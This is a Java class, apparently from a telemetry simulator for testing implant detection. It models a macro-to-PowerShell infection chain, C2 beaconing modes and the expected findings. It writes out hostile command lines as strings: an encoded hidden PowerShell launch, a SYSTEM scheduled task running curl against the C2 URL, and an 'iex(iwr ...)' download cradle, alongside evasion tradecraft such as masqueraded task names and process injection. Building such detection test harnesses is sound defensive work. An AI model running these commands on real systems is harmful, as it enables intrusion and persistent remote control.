package io.etwcorr.simulator;

import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;

/**
 * One implant's story on its host: explorer.exe opens a document in winword.exe, whose macro runs
 * powershell.exe, which starts the implant (DIRECT) or injects it into a victim (INJECTED); then
 * the beaconing process calls back on its {@link ImplantSchedule} until the fleet's time is over.
 * Its {@link Tradecraft} may move it into the browsing chrome.exe, resolve over IPv6 only or through
 * the DNS cache service alone, or call back from a new process each time (a scheduled task's
 * cmd.exe → curl.exe, or a download cradle the macro's powershell.exe starts in a loop).
 */
final class ImplantActivity implements Activity {
    private static final ProcessImage WINWORD = ProcessImage.at("C:\\Program Files\\Microsoft Office\\root\\Office16\\winword.exe");
    private static final ProcessImage POWERSHELL = ProcessImage.system32("WindowsPowerShell\\v1.0\\powershell.exe");
    private static final ProcessImage RUNDLL32 = ProcessImage.system32("rundll32.exe");
    private static final ProcessImage NOTEPAD = ProcessImage.system32("notepad.exe");
    private static final ProcessImage SCHTASKS = ProcessImage.system32("schtasks.exe");
    private static final ProcessImage CMD = ProcessImage.system32("cmd.exe");
    private static final ProcessImage CURL = ProcessImage.system32("curl.exe");
    /** A C2 name's TTL (an hour, the registrar's default): callbacks within it are answered from the cache. */
    private static final long C2_TTL_S = 3600;
    private static final int NO_RECORDS = 9501;
    private static final int NAME_ERROR = 9003;
    private static final double SIZE_NOISE = 0.03;

    private enum Step { OPEN_DOCUMENT, RUN_MACRO, LAUNCH, INJECT, BEACON }

    private final ImplantSpec spec;
    private final int index;
    private final long chainStart;
    private final long activeUntil;
    private final ImplantSchedule schedule;
    private final SplittableRandom wire;
    private final List<String> addresses;
    private final int sendBase;
    private final int receiveBase;
    private final List<Long> callbacks = new ArrayList<>();
    private final List<ImplantInstance> instances = new ArrayList<>();
    private final DnsCacheService dnsCache;
    /** What a new process per callback runs (task or loop tradecraft). */
    private String instanceCommandLine;
    private Step step = Step.OPEN_DOCUMENT;
    private SimProcess winword;
    private SimProcess powershell;
    private SimProcess beacon;
    private TcpConnection channel;

    ImplantActivity(FleetSpec fleet, int index, HostSimulator host) {
        this.spec = fleet.implants().get(index);
        this.index = index;
        this.chainStart = fleet.startMicros() + spec.startAfterS() * Micros.SECOND;
        long firstCallback = chainStart + ImplantSchedule.FIRST_CALLBACK_AFTER;
        this.activeUntil = spec.activeForS() == 0 ? Long.MAX_VALUE : firstCallback + spec.activeForS() * Micros.SECOND;
        this.schedule = new ImplantSchedule(spec, fleet.seed(), index, chainStart);
        this.wire = Seeds.random(fleet.seed(), Seeds.IMPLANT_WIRE, index);
        this.addresses = spec.tradecraft() == Tradecraft.IPV6_ONLY ? DnsAnswers.c2Ipv6Addresses(fleet.seed(), index)
                : DnsAnswers.c2Addresses(fleet.seed(), index);
        this.dnsCache = spec.tradecraft() == Tradecraft.CACHE_ONLY ? new DnsCacheService(host.booted.dnsCache, C2_TTL_S) : null;
        this.sendBase = 120 + wire.nextInt(500);
        this.receiveBase = 60 + wire.nextInt(300);
    }

    long chainStart() {
        return chainStart;
    }

    @Override
    public long run(HostSimulator host, long now) {
        BootedHost booted = host.booted;
        switch (step) {
            case OPEN_DOCUMENT -> {
                String document = "C:\\Users\\" + booted.user.substring(booted.user.indexOf('\\') + 1) + "\\Downloads\\Invoice_"
                        + (10_000 + wire.nextInt(90_000)) + ".docm";
                winword = host.startProcess(now, booted.explorer, WINWORD,
                        "\"" + WINWORD.dosPath() + "\" /n \"" + document + "\"", booted.user, 1);
                step = Step.RUN_MACRO;
                return now + Micros.seconds(wire.nextDouble(2, 4));
            }
            case RUN_MACRO -> {
                powershell = host.startProcess(now, winword, POWERSHELL,
                        "powershell.exe -nop -w hidden -enc " + DnsAnswers.hex(wire, 48), booted.user, 1);
                step = Step.LAUNCH;
                return now + Micros.seconds(wire.nextDouble(2, 3));
            }
            case LAUNCH -> {
                launch(host, now);
                step = spec.delivery() == Delivery.INJECTED ? Step.INJECT : Step.BEACON;
                return spec.delivery() == Delivery.INJECTED ? now + Micros.seconds(wire.nextDouble(1, 3)) : schedule.nextCallback();
            }
            case INJECT -> {
                host.startThread(now, powershell, beacon, ThreadAddresses.inPrivateMemory(wire));
                finishChain(host, now);
                step = Step.BEACON;
                return schedule.nextCallback();
            }
            default -> {
                if (now >= activeUntil) {
                    return DONE;
                }
                long callbackAt = spec.tradecraft().newProcessPerCallback() ? startInstance(host, now) : now;
                callBack(host, callbackAt);
                callbacks.add(callbackAt);
                return schedule.nextCallback();
            }
        }
    }

    private void launch(HostSimulator host, long now) {
        String user = host.booted.user;
        switch (spec.tradecraft()) {
            case SCHEDULED_TASK -> {
                instanceCommandLine = "curl.exe -s -k -o NUL " + c2Url();
                String task = "\\Microsoft\\Windows\\WinSAT\\WinSATUpdate" + DnsAnswers.hex(wire, 4);
                SimProcess schtasks = host.startProcess(now, powershell, SCHTASKS, "schtasks.exe /create /f /sc minute /mo "
                        + Math.max(1, Math.round(spec.sleepS() / 60)) + " /ru SYSTEM /tn \"" + task + "\" /tr \"cmd.exe /c "
                        + instanceCommandLine + "\"", user, 1);
                host.schedule(now + Micros.seconds(wire.nextDouble(0.2, 1.5)), (h, t) -> {
                    h.stopProcess(t, schtasks, 0);
                    return DONE;
                });
                recordTruth(host);
                stopMacro(host, now);
                return;
            }
            case LOOP -> {
                instanceCommandLine = "powershell.exe -nop -w hidden -c \"iex(iwr -UseBasicParsing " + c2Url() + ")\"";
                recordTruth(host);
                return;
            }
            case INTO_BROWSER -> {
                beacon = host.booted.browser;
                return;
            }
            default -> {
            }
        }
        if (spec.delivery() == Delivery.DIRECT) {
            beacon = host.startProcess(now, powershell, RUNDLL32, rundll32CommandLine(user), user, 1);
            finishChain(host, now);
            return;
        }
        beacon = switch (spec.target()) {
            case SPAWNED_NOTEPAD -> host.startProcess(now, powershell, NOTEPAD, "notepad.exe", user, 1);
            case SPAWNED_RUNDLL32 -> host.startProcess(now, powershell, RUNDLL32, rundll32CommandLine(user), user, 1);
            case EXISTING_SVCHOST -> host.booted.takeSpareSvchost();
        };
    }

    /** Records the expected findings while the chain is alive, then lets the macro's powershell.exe exit. */
    private void finishChain(HostSimulator host, long now) {
        List<LineageEntry> lineage = spec.delivery() == Delivery.INJECTED
                ? ExpectedLineage.of(host.name, host.processes.ancestry(powershell), beacon)
                : ExpectedLineage.of(host.name, host.processes.ancestry(beacon), null);
        instances.add(new ImplantInstance(beacon.entityId(host.name), beacon.pid(), lineage, ExpectedLineage.patientZero(lineage)));
        recordTruth(host);
        stopMacro(host, now);
    }

    /**
     * The expected findings, read once the corpus is complete: the beaconing process, or for a task
     * or loop the latest of its per-callback processes, and all of them.
     */
    private void recordTruth(HostSimulator host) {
        // A task or loop that never called back is named by the chain's powershell.exe.
        List<LineageEntry> chain = ExpectedLineage.of(host.name, host.processes.ancestry(powershell), null);
        ImplantInstance beforeFirstCallback = new ImplantInstance(powershell.entityId(host.name), powershell.pid(), chain,
                ExpectedLineage.patientZero(chain));
        host.truth.implant(index, () -> {
            ImplantInstance latest = instances.isEmpty() ? beforeFirstCallback : instances.get(instances.size() - 1);
            SimProcess named = instances.isEmpty() ? powershell : beacon;
            return new ImplantTruth(index, host.name, latest.entityId(), latest.pid(), named.name(),
                    named.image().dosPath(), spec.destinationLabel(addresses.get(0)), addresses, spec.c2Port(), spec.mode(),
                    spec.delivery(), spec.sleepS(), spec.jitter(), spec.jitterKind(), spec.missedFraction(), latest.lineage(),
                    latest.patientZero(), schedule.missedSlots(), callbacks, spec.tradecraft(),
                    spec.tradecraft().newProcessPerCallback() ? instances : List.of());
        });
    }

    private void stopMacro(HostSimulator host, long now) {
        SimProcess macro = powershell;
        host.schedule(now + Micros.seconds(wire.nextDouble(2, 8)), (h, t) -> {
            h.stopProcess(t, macro, 0);
            return DONE;
        });
    }

    /**
     * The process of this callback: the task scheduler's cmd.exe starting curl.exe, or a download
     * cradle the looping powershell.exe starts; both exit once the callback is done. Returns when the
     * new process, loaded, starts its callback.
     */
    private long startInstance(HostSimulator host, long now) {
        BootedHost booted = host.booted;
        SimProcess launcher;
        long started = now;
        if (spec.tradecraft() == Tradecraft.SCHEDULED_TASK) {
            launcher = host.startProcess(now, booted.scheduler, CMD, "C:\\Windows\\system32\\cmd.exe /c " + instanceCommandLine,
                    BootedHost.SYSTEM_USER, 0);
            started = now + Micros.millisBetween(wire, 10, 40);
            beacon = host.startProcess(started, launcher, CURL, instanceCommandLine, BootedHost.SYSTEM_USER, 0);
        } else {
            launcher = null;
            beacon = host.startProcess(now, powershell, POWERSHELL, instanceCommandLine, booted.user, 1);
        }
        List<LineageEntry> lineage = ExpectedLineage.of(host.name, host.processes.ancestry(beacon), null);
        instances.add(new ImplantInstance(beacon.entityId(host.name), beacon.pid(), lineage, ExpectedLineage.patientZero(lineage)));
        SimProcess instance = beacon;
        // Callbacks take well under a second; the process lingers a little, then exits with its launcher.
        host.schedule(now + Micros.seconds(wire.nextDouble(2, 6)), (h, t) -> {
            h.stopProcess(t, instance, 0);
            if (launcher != null) {
                h.stopProcess(t + Micros.millisBetween(wire, 5, 30), launcher, 0);
            }
            return DONE;
        });
        return started + Micros.millisBetween(wire, 50, 400);
    }

    /** A lookup's outcome: when the answer was handed out, and the address the implant connects to. */
    private record Resolved(long at, String address) {
    }

    /** The C2 name looked up at {@code t} for callback {@code callback}, as the tradecraft shows it. */
    private Resolved lookUp(HostSimulator host, long t, long callback) {
        Traffic traffic = host.traffic;
        switch (spec.tradecraft()) {
            case IPV6_ONLY -> {
                // Dual-stack resolvers ask for A too; the C2 zone has none (no records, or a broken server's NXDOMAIN).
                int failure = wire.nextInt(4) == 0 ? NAME_ERROR : NO_RECORDS;
                long failed = traffic.resolve(t, beacon, spec.c2Domain(), EtwEvents.QUERY_TYPE_A, failure, DnsAnswers.none());
                SimulatedDnsAnswer answer = DnsAnswers.rotatingIpv6(addresses, callback);
                return new Resolved(traffic.resolve(traffic.pause(failed, 0.2, 5), beacon, spec.c2Domain(), EtwEvents.QUERY_TYPE_AAAA,
                        0, answer), answer.addresses().get(0));
            }
            case CACHE_ONLY -> {
                SimulatedDnsAnswer answer = DnsAnswers.rotating(addresses, callback);
                return new Resolved(dnsCache.resolve(host, wire, t, beacon, spec.c2Domain(), EtwEvents.QUERY_TYPE_A, answer,
                        Traffic.INTERFACE_INDEX), answer.addresses().get(0));
            }
            default -> {
                SimulatedDnsAnswer answer = DnsAnswers.rotating(addresses, callback);
                return new Resolved(traffic.resolve(t, beacon, spec.c2Domain(), EtwEvents.QUERY_TYPE_A, 0, answer),
                        answer.addresses().get(0));
            }
        }
    }

    private String c2Url() {
        return "https://" + spec.c2Domain() + "/" + DnsAnswers.hex(wire, 6) + "/" + DnsAnswers.hex(wire, 12);
    }

    private String rundll32CommandLine(String user) {
        return "rundll32.exe C:\\Users\\" + user.substring(user.indexOf('\\') + 1) + "\\AppData\\Local\\Temp\\"
                + DnsAnswers.hex(wire, 8) + ".dll,Start";
    }

    private void callBack(HostSimulator host, long now) {
        Traffic traffic = host.traffic;
        long callback = callbacks.size();
        switch (spec.mode()) {
            case NEW_CONNECTION -> {
                long t = now;
                String address = addresses.get(0);
                if (spec.c2Domain() != null) {
                    Resolved resolved = lookUp(host, t, callback);
                    address = resolved.address();
                    t = traffic.pause(resolved.at(), 0.3, 3);
                }
                TcpConnection connection = traffic.connect(t, beacon, address, spec.c2Port());
                t = traffic.exchange(traffic.pause(t, 20, 60), connection, noisy(sendBase), noisy(receiveBase));
                traffic.disconnect(traffic.pause(t, 5, 50), connection);
            }
            case KEEP_ALIVE -> {
                long t = now;
                if (channel == null) {
                    String address = addresses.get(0);
                    if (spec.c2Domain() != null) {
                        t = traffic.pause(lookUp(host, t, 0).at(), 0.3, 3);
                    }
                    channel = traffic.connect(t, beacon, address, spec.c2Port());
                    t = traffic.pause(t, 20, 60);
                }
                // A burst: the check-in and its small follow-ups, then the tasking answer.
                t = traffic.send(t, channel, noisy(sendBase));
                for (int more = wire.nextInt(3); more > 0; more--) {
                    t = traffic.send(traffic.pause(t, 1, 15), channel, noisy(48));
                }
                traffic.receive(traffic.pause(t, 40, 200), channel, noisy(receiveBase));
            }
            case DNS_ONLY -> {
                String name = DnsAnswers.hex(wire, 8 + wire.nextInt(9)) + "." + spec.c2Domain();
                if (dnsCache != null) {
                    dnsCache.resolve(host, wire, now, beacon, name, EtwEvents.QUERY_TYPE_A, DnsAnswers.rotating(addresses, callback),
                            Traffic.INTERFACE_INDEX);
                } else if (wire.nextBoolean()) {
                    traffic.resolve(now, beacon, name, EtwEvents.QUERY_TYPE_TXT, 0, DnsAnswers.text(wire));
                } else {
                    traffic.resolve(now, beacon, name, EtwEvents.QUERY_TYPE_A, 0, DnsAnswers.rotating(addresses, callback));
                }
            }
        }
    }

    // Implants send the same check-in every time: sizes vary by a few percent only.
    private int noisy(int base) {
        return Math.max(1, (int) Math.round(base * (1 + wire.nextDouble(-SIZE_NOISE, SIZE_NOISE))));
    }
}
